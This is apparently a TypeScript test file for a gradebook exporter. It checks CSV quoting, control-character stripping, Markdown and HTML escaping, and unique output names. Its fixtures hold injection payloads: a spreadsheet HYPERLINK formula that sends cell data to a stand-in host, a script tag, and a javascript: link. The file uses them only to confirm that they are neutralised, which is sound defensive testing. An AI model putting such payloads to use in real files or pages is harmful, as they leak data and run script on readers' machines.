import { parse } from "csv-parse/sync";
import { outputKeys, type LearnerResult } from "./batch";
import { feedbackHtml, feedbackMarkdown, gradebookCsv } from "./gradebook";

const report = (section: string, parts: [string, number, number, string, string[]][]) => ({
  section,
  notebook: "x.ipynb",
  notes: [],
  maxScore: 100,
  score: parts.reduce((s, p) => s + p[1], 0),
  parts: parts.map(([name, points, maxPoints, status, feedback]) => ({
    name,
    points,
    maxPoints,
    status: status as any,
    feedback,
    cases: 2,
    casesPassed: 1,
  })),
});
const row = (r: Partial<LearnerResult> & Pick<LearnerResult, "learner" | "file" | "status">): LearnerResult => ({
  key: r.learner,
  seconds: 1,
  flags: [],
  ...r,
});
const results: LearnerResult[] = [
  row({
    learner: "ann",
    file: "/x/ann.ipynb",
    status: "ok",
    report: report("01-a", [
      ["f", 60, 60, "passed", []],
      ["g", 12.5, 40, "partial", ['hidden case "x": got <NaN> | "bad"']],
    ]),
  }),
  row({ learner: "bo, jr", file: "/x/bo.ipynb", status: "not-a-notebook", error: 'not valid JSON ("oops")' }),
  row({
    learner: "cy",
    file: "/x/cy.ipynb",
    status: "ok",
    report: report("02-b", [["h", 100, 100, "passed", []]]),
    flags: ['duplicate-id: 2 submissions claim "cy"'],
  }),
];

test("the gradebook has one row per submission and one column per part of every section seen, quoting what needs it", () => {
  const rows = parse(gradebookCsv(results), { columns: true }) as Record<string, string>[];
  expect(Object.keys(rows[0])).toEqual([
    "learner",
    "file",
    "section",
    "status",
    "total",
    "max",
    "01-a:f",
    "01-a:g",
    "02-b:h",
    "error",
    "flags",
  ]);
  expect(rows.map((r: any) => [r.learner, r.status, r.total, r["01-a:g"], r["02-b:h"], r.error, r.flags])).toEqual([
    ["ann", "ok", "72.50", "12.50", "", "", ""],
    ["bo, jr", "not-a-notebook", "0", "", "", 'not valid JSON ("oops")', ""],
    ["cy", "ok", "100", "", "100", "", 'duplicate-id: 2 submissions claim "cy"'],
  ]);
});

test("learner ids a spreadsheet would run as formulas are written as text", () => {
  const hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+SUM(1,1)", "-2+3", "@SUM(A1)"].map((learner) =>
    row({ learner, file: `/x/${learner.length}.ipynb`, status: "not-a-notebook", error: "x" }),
  );
  const cells = (parse(gradebookCsv(hostile), { columns: true }) as Record<string, string>[]).map((r) => r.learner);
  expect(cells).toEqual(['\'=HYPERLINK("http://x.example/?"&A1,"click")', "'+SUM(1,1)", "'-2+3", "'@SUM(A1)"]);
});

test("control characters and newlines in learner text never reach the CSV, Markdown or HTML", () => {
  const r = row({
    learner: "bob\u001b[2K\r\nok 100 / 100",
    file: "/x/b.ipynb",
    status: "ok",
    report: report("01-a", [
      ["f", 0, 60, "failed", ['public case "p": threw Error: line one\nline two \u001b[31mred']],
    ]),
  });
  const csv = gradebookCsv([r]);
  expect(csv.split("\n").filter(Boolean)).toHaveLength(2);
  expect(csv).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/); // eslint-disable-line no-control-regex
  for (const text of [feedbackMarkdown(r), feedbackHtml(r)]) expect(text).not.toMatch(/\u001b|\r/); // eslint-disable-line no-control-regex
  expect(feedbackMarkdown(r)).toContain("threw Error: line one line two  \\[31mred");
});

test("feedback escapes what the learner's values could inject, in Markdown tables and in HTML", () => {
  expect(feedbackMarkdown(results[0])).toContain(
    '| ✗ g | 12.50 / 40 | [partial] hidden case "x": got &lt;NaN&gt; \\| "bad" |',
  );
  const html = feedbackHtml(results[0]);
  expect(html).toContain("got &lt;NaN&gt; | &quot;bad&quot;");
  expect(html).not.toContain("<NaN>");
  expect(feedbackMarkdown(results[1])).toContain("could not be graded: not valid JSON");
  const md = feedbackMarkdown(
    row({
      learner: "<script>alert(1)</script>",
      file: "/x/s.ipynb",
      status: "error",
      error: "[click](javascript:alert(1)) ![x](http://t.example/p.png) **bold** `code`",
    }),
  );
  expect(md).not.toMatch(/<script>|(?<!\\)\]\(|(?<!\\)!\[|(?<!\\)\*\*b|(?<!\\)`c/);
  expect(md).toContain("&lt;script&gt;");
});

test("output names are unique: two claimed ids alike, names in any script, long names, the same file name in two folders", () => {
  const subs = [
    { file: "/a/alice.ipynb", learner: "alice" },
    { file: "/b/alice.ipynb", learner: "alice" },
    { file: "/c/李雷.ipynb", learner: "李雷" },
    { file: "/c/韩梅梅.ipynb", learner: "韩梅梅" },
    { file: `/c/${"x".repeat(300)}.ipynb`, learner: "x" },
    { file: "/c/a b.ipynb", learner: "a b" },
    { file: "/c/bob.ipynb", learner: "alice" },
  ];
  const keys = outputKeys(subs);
  expect(new Set(keys).size).toBe(subs.length);
  expect(keys.slice(2, 4)).toEqual(["李雷", "韩梅梅"]);
  expect(keys[6]).toBe("bob");
  expect(keys.every((k) => k.length <= 70 && /^[\p{L}\p{N}._-]+$/u.test(k))).toBe(true);
  expect(outputKeys(subs)).toEqual(keys); // stable from run to run
});
